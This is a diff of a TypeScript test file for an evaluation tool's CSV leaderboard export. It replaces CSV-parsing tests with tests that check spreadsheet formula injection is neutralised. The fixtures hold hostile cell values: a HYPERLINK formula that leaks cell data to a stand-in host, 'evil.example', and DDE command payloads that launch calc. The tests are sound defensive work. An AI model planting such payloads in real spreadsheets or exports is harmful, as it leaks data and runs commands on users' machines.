@@ -1,67 +1,63 @@
-// Adversarial CSV files (issue 16, "files as the ecosystem writes them"): what Python's csv module and pandas write,
-// read by a task and by `flamingo-eval score`, and files broken in ways that must fail with the file and the line.
+// Hardening: `leaderboard --format csv` never writes a cell a spreadsheet would execute. Model and task names from
+// records that start with =, +, -, @, tab or CR are neutralised the OWASP way (a leading ' and quotes); numbers stay
+// numbers (a negative mean is written as -3.5).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { InputError } from '../src/core/errors.ts';
-import { ivqa } from '../src/tasks/ivqa.ts';
-import { score } from '../src/commands/score.ts';
-import { editLines, loadRejects, withCopy } from './support/video-task-checks.ts';
+import { leaderboard } from '../src/commands/leaderboard.ts';
+import { neutraliseCell } from '../src/leaderboard/csv.ts';
+import { makeRecord } from './support/report-records.ts';
 
-/** A row as Python's csv.writer writes it (QUOTE_MINIMAL, lineterminator "\r\n"). */
-function pythonRow(values: string[]): string {
-  return `${values.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')}\r\n`;
-}
-
-test('a task reads a CSV written by Python with a line break, commas and quotes inside a question', async () => {
-  await withCopy('ivqa', async (data) => {
-    const lines = readFileSync(data.path('test.csv'), 'utf8').trimEnd().split('\n');
-    const header = lines[0]!.split(',');
-    const rows = lines.slice(1).map((line) => line.split(','));
-    const question = 'what does the sign say:\n"STOP", or "GO"?';
-    rows[1]![header.indexOf('question')] = question;
-    writeFileSync(data.path('test.csv'), `\ufeff${[header, ...rows].map(pythonRow).join('')}`);
-    const loaded = await ivqa.load({ dataDir: data.dir });
-    assert.equal(loaded.query.length, rows.length);
-    assert.equal(loaded.query[1]!.fields.question, question);
-    assert.equal(loaded.query[2]!.fields.question, rows[2]![header.indexOf('question')]);
-  });
+test('neutraliseCell: the six dangerous first characters get a leading quote; others are left alone', () => {
+  for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseCell(text), `'${text}`);
+  for (const text of ['model', 'okvqa 4-shot', '3B', "'quoted", ' =x', '']) assert.equal(neutraliseCell(text), text);
 });
 
-test('a task names the file and the line of a quote that is never closed, even rows after it', async () => {
-  await withCopy('ivqa', async (data) => {
-    await editLines(data, 'test.csv', (lines) => [lines[0]!, lines[1]!, lines[2]!.replace(/,([^,]*)$/, ',"$1'), ...lines.slice(3)]);
-    await loadRejects(ivqa, { dataDir: data.dir }, InputError, 'test.csv: line 3: unterminated quoted field');
+test('leaderboard csv: hostile model and task names are inert text; numeric columns keep negative numbers', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'fe-csv-injection-'));
+  const hostile = [
+    { model: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', task: '@SUM(1+1)*cmd|" /C calc"!A0' },
+    { model: '+1+cmd|\' /C calc\'!A0', task: 'okvqa' },
+    { model: '-2+3', task: 'okvqa' },
+    { model: '\tTAB', task: 'okvqa' },
+    { model: '\rCR', task: 'okvqa' },
+  ];
+  hostile.forEach((spec, i) => {
+    const record = makeRecord({ model: spec.model, parameters: 1000 + i, task: spec.task, shots: 0, scores: [-3.5] });
+    writeFileSync(join(dir, `r${i}.json`), `${JSON.stringify(record, null, 1)}\n`);
   });
-});
-
-test('score reads rareact.csv written by pandas with CRLF and a quoted noun holding a comma and a line break', async () => {
-  const dir = mkdtempSync(join(tmpdir(), 'hardening-csv-'));
-  try {
-    const fixture = join(import.meta.dirname, 'fixtures', 'score', 'rareact');
-    const csv = readFileSync(join(fixture, 'hand.csv'), 'utf8').trimEnd().split('\n').map((line) => line.split(','));
-    const plain = join(dir, 'plain.csv');
-    writeFileSync(plain, csv.map(pythonRow).join(''));
-    const noun = csv[0]!.indexOf('noun');
-    const odd = csv.map((row, i) => (i === 0 ? row : row.map((v, k) => (k === noun ? `${v}, sliced\n"fresh"` : v))));
-    const quoted = join(dir, 'quoted.csv');
-    writeFileSync(quoted, odd.map(pythonRow).join(''));
-    const predictions = join(fixture, 'hand-predictions.json');
-    const mwap = (references: string) => score({ metric: 'mwap', predictions, references, ci: false, seed: 0, ciSamples: 1000 });
-    const a = await mwap(plain);
-    assert.ok(a.report.n > 0);
-    assert.deepEqual((await mwap(quoted)).report, a.report);
-
-    const broken = join(dir, 'broken.csv');
-    writeFileSync(broken, `${csv.slice(0, 3).map(pythonRow).join('')}${csv[3]!.join(',').replace(/,([^,]*)$/, ',"$1')}\r\n${csv.slice(4).map(pythonRow).join('')}`);
-    await assert.rejects(mwap(broken), (error: Error) => {
-      assert.ok(error instanceof InputError);
-      assert.match(error.message, /broken\.csv: line 4: unterminated quoted field/);
-      return true;
-    });
-  } finally {
-    rmSync(dir, { recursive: true, force: true });
+  const csv = await leaderboard([dir], { format: 'csv', paper: false, colour: false });
+  // Every cell, header included, read back with a small RFC 4180 reader.
+  const rows = parseCsv(csv);
+  for (const row of rows) {
+    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell), `cell ${JSON.stringify(cell)} is inert`);
   }
+  const models = rows.slice(1).map((row) => row[0]);
+  for (const { model } of hostile) assert.ok(models.includes(`'${model}`), `${JSON.stringify(model)} is written as text`);
+  assert.ok(rows[0]!.some((label) => label.startsWith("'@SUM(1+1)")), 'the task label is neutralised');
+  // The mean of -3.5 is a number: unquoted and unprefixed in the raw text.
+  assert.match(csv, /,-3\.5,/);
+  assert.ok(rows.slice(1).every((row) => row.includes('-3.5')));
 });
+
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
+    else cell += c;
+  }
+  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
+  return rows;
+}
